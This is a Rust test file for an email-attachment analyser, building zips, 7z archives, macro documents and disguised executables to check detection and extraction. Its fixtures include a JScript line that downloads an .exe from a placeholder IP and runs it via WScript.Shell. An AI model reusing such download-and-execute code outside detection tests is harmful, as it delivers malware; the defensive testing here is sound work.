//! The artifact tree end to end: mails with malicious-looking attachments
//! built at test time, checked for tree paths, types, hashes, findings and
//! indicators.

mod common;

use common::*;
use mozu_model::{ArtifactDetails, Location};

#[test]
fn kaomoji_zip_with_vbs_downloader() {
    let z = zip(&[("PIC_123456_2020.vbs", NEMTY_VBS.as_bytes())], None);
    let rec = analyse(&mail_with(
        "(｀・ω・´)",
        "",
        "PIC_123456_2020.zip",
        "application/zip",
        &z,
    ));
    let root = at(&rec, "PIC_123456_2020.zip");
    assert_eq!(root.detected_type, "zip");
    assert_eq!(root.sha256, sha256(&z));
    assert!(matches!(&root.details, Some(ArtifactDetails::Archive(a)) if a.entries == 1));
    let vbs = at(&rec, "PIC_123456_2020.zip/PIC_123456_2020.vbs");
    assert_eq!(vbs.detected_type, "script");
    assert_eq!(vbs.depth, 1);
    assert_eq!(vbs.sha256, sha256(NEMTY_VBS.as_bytes()));
    assert!(vbs.ssdeep.is_some() && vbs.tlsh.is_some());
    assert!(has(vbs, "script.download_execute"), "{:?}", vbs.findings);
    let url = rec
        .urls
        .iter()
        .find(|u| u.url == "http://203.0.113.10/nemty.exe")
        .expect("payload URL");
    assert_eq!(url.location, Location::Attachment);
    assert_eq!(url.artifact.as_deref(), Some("PIC_123456_2020.zip/PIC_123456_2020.vbs"));
    assert!(rec.ips.contains(&"203.0.113.10".to_string()));
}

#[test]
fn encrypted_zip_opened_with_password_from_body() {
    let z = zip(
        &[(
            "invoice.js",
            b"var s = WScript.CreateObject('WScript.Shell'); s.Run('calc');",
        )],
        Some(("x7Kp2", false)),
    );
    let rec = analyse(&mail_with(
        "請求書送付の件",
        "添付の請求書をご確認ください。\r\nパスワード：x7Kp2\r\n",
        "請求書.zip",
        "application/zip",
        &z,
    ));
    let root = at(&rec, "請求書.zip");
    let enc = root.encryption.as_ref().expect("encryption recorded");
    assert_eq!(enc.method, "zipcrypto");
    assert!(enc.decrypted);
    assert_eq!(enc.password.as_deref(), Some("x7Kp2"));
    assert_eq!(enc.password_source.as_deref(), Some("body"));
    assert!(has(root, "archive.password_in_mail"));
    assert_eq!(at(&rec, "請求書.zip/invoice.js").detected_type, "script");
}

#[test]
fn aes_zip_with_list_password_and_locked_zip_still_lists_names() {
    let z = zip(&[("a.vbs", b"WScript.Echo 1")], Some(("infected", true)));
    let rec = analyse(&mail_with("sample", "", "s.zip", "application/zip", &z));
    let enc = at(&rec, "s.zip").encryption.clone().unwrap();
    assert!(enc.method.starts_with("aes"), "{enc:?}");
    assert_eq!(enc.password_source.as_deref(), Some("list"));
    let locked = zip(&[("invoice.js", b"x")], Some(("not-guessable-Zq9", false)));
    let rec = analyse(&mail_with("locked", "", "l.zip", "application/zip", &locked));
    let root = at(&rec, "l.zip");
    assert!(!root.encryption.as_ref().unwrap().decrypted);
    assert!(has(root, "archive.encrypted"));
    let entry = at(&rec, "l.zip/invoice.js");
    assert_eq!(entry.detected_type, "not-extracted");
    assert!(entry.sha256.is_empty());
}

#[test]
fn sevenz_with_js() {
    let js = b"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://198.51.100.4/p.exe',0); x.send(); new ActiveXObject('WScript.Shell').Run('p.exe');";
    let s = sevenz("document.js", js);
    let rec = analyse(&mail_with("Invoice", "", "doc.7z", "application/x-7z-compressed", &s));
    assert_eq!(at(&rec, "doc.7z").detected_type, "7z");
    let j = at(&rec, "doc.7z/document.js");
    assert_eq!(j.sha256, sha256(js));
    assert!(rec.urls.iter().any(|u| u.url == "http://198.51.100.4/p.exe"));
}

#[test]
fn macro_document_inside_a_zip() {
    let parts = mozu_office::fixtures::docm_parts();
    let entries: Vec<(&str, &[u8])> = parts.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
    let docm = zip(&entries, None);
    let z = zip(&[("請求書_2019.docm", &docm)], None);
    let rec = analyse(&mail_with("請求書", "", "請求書.zip", "application/zip", &z));
    let doc = at(&rec, "請求書.zip/請求書_2019.docm");
    assert_eq!(doc.detected_type, "ooxml");
    let Some(ArtifactDetails::Office(info)) = &doc.details else {
        panic!("no office details: {:?}", doc.details)
    };
    assert!(!info.vba_modules.is_empty());
    assert!(has(doc, "office.vba_autoexec"), "{:?}", doc.findings);
}

#[test]
fn executable_disguised_as_pdf_with_double_extension() {
    let mut pe = vec![0u8; 512];
    pe[..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let z = zip(&[("請求書.pdf.exe", &pe)], None);
    let rec = analyse(&mail_with("請求書", "", "請求書.zip", "application/zip", &z));
    let exe = at(&rec, "請求書.zip/請求書.pdf.exe");
    assert_eq!(exe.detected_type, "pe");
    assert!(has(exe, "name.double_extension"));
    let rec = analyse(&mail_with("請求書", "", "請求書.pdf", "application/pdf", &pe));
    assert!(has(at(&rec, "請求書.pdf"), "name.type_mismatch_executable"));
}

#[test]
fn forwarded_mail_is_analysed_recursively() {
    let z = zip(&[("run.vbs", NEMTY_VBS.as_bytes())], None);
    let inner = mail_with("inner", "see zip", "a.zip", "application/zip", &z);
    let rec = analyse(&mail_with(
        "Fw: inner",
        "forwarding",
        "fwd.eml",
        "message/rfc822",
        &inner,
    ));
    let m = at(&rec, "fwd.eml");
    assert_eq!(m.detected_type, "eml");
    assert!(matches!(&m.details, Some(ArtifactDetails::Mail(i)) if i.subject.as_deref() == Some("inner")));
    assert_eq!(at(&rec, "fwd.eml/a.zip/run.vbs").depth, 2);
}
